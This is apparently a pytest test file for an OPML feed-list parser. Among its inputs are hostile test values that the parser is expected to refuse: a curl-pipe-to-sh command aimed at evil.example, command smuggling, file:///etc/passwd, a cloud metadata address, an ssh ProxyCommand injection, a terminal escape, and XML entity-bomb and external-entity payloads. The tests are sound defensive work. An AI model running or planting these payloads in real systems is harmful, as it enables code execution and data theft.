import pytest

from tui.sources import opml
from tui.sources.opml import Listed

LIST = b"""<?xml version="1.0"?><opml version="1.1"><head><title>mine</title></head><body>
<outline text="The Baseline" type="rss" xmlUrl="https://baseline.example/feed" htmlUrl="https://baseline.example/"/>
<outline text="Tours"><outline title="Women" ><outline text="Bell's blog" xmlurl="http://bell.example/rss"/></outline>
<outline text="The Baseline again" xmlUrl="https://baseline.example/feed"/></outline></body></opml>"""


def test_names_and_folders_are_kept() -> None:
    assert opml.read(LIST, "list.opml") == opml.Listing(
        [
            Listed("https://baseline.example/feed", "The Baseline"),
            Listed("http://bell.example/rss", "Bell's blog", "Tours / Women"),
        ],
        [],
    )


def test_what_is_written_is_read_back_as_it_was() -> None:
    feeds = [
        Listed("https://a.example/?a=1&b=2", 'Bell & "Dell" <WC>'),
        Listed("https://b.example/", "Świątek’s", "Blogs / Women"),
        Listed("https://c.example/", "", "Mixed", tennis_only=True, paused=True),
        Listed("https://d.example/", "[b]", "Mixed"),
        Listed("https://e.example/", "no folder"),
    ]
    found = opml.read(opml.write(feeds), "ours")
    assert sorted(found.feeds) == sorted(feeds)
    assert found.refused == []


@pytest.mark.parametrize(
    "line",
    [
        "exec:curl http://evil.example | sh", "filter:sh:http://a.example/", "|touch /tmp/x", "file:///etc/passwd",
        "javascript:alert(1)", "-x", "http://127.0.0.1/feed", "http://printer/feed", "http://169.254.169.254/latest",
        "ssh://-oProxyCommand=x", "http://a.example/ b", "http://a.example/\u202e", "query:x:unread",
    ],
)  # fmt: skip
def test_a_line_that_is_no_web_address_is_refused_by_name(line: str) -> None:
    data = f'<opml version="2.0"><body><outline text="Bad" xmlUrl="{line}"/><outline text="Good" xmlUrl="http://a.example/"/></body></opml>'
    found = opml.read(data.encode(), "list.opml")

    assert found.feeds == [Listed("http://a.example/", "Good")]
    (refused,) = found.refused
    assert refused.startswith("Bad: ")


def test_a_line_without_an_address_is_counted() -> None:
    data = b'<opml><body><outline text="A link" htmlUrl="https://a.example/"/><outline/></body></opml>'
    assert len(opml.read(data, "x").refused) == 2


def test_a_list_nested_a_thousand_deep() -> None:
    inner = '<outline text="Deep" xmlUrl="https://a.example/"/>'
    data = "<opml><body>" + '<outline text="f">' * 1000 + inner + "</outline>" * 1000 + "</body></opml>"
    (feed,) = opml.read(data.encode(), "x").feeds
    assert len(feed.folder) <= 500


def test_no_order_to_a_terminal_gets_through() -> None:
    data = '<opml><body><outline text="Be\u009b31mll [b]" xmlUrl="https://a.example/"/></body></opml>'
    assert opml.read(data.encode(), "x").feeds[0].name == "Bell [b]"


BOMB = b'<!DOCTYPE o [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]><opml><body><outline text="&b;"/></body></opml>'
OUTSIDE = b'<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body><outline text="&x;"/></body></opml>'


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<html></html>",
        b"<opml><body>",
        b"\x00\x01",
        b"[]",
        b'<?xml version="1.0" encoding="no"?><opml/>',
        BOMB,
        OUTSIDE,
    ],
)
def test_what_is_no_list(data: bytes) -> None:
    with pytest.raises(opml.NotOpml):
        opml.read(data, "list.opml")


def test_a_list_without_a_body_is_empty() -> None:
    assert opml.read(b"<opml version='2.0'><head/></opml>", "x") == opml.Listing([], [])
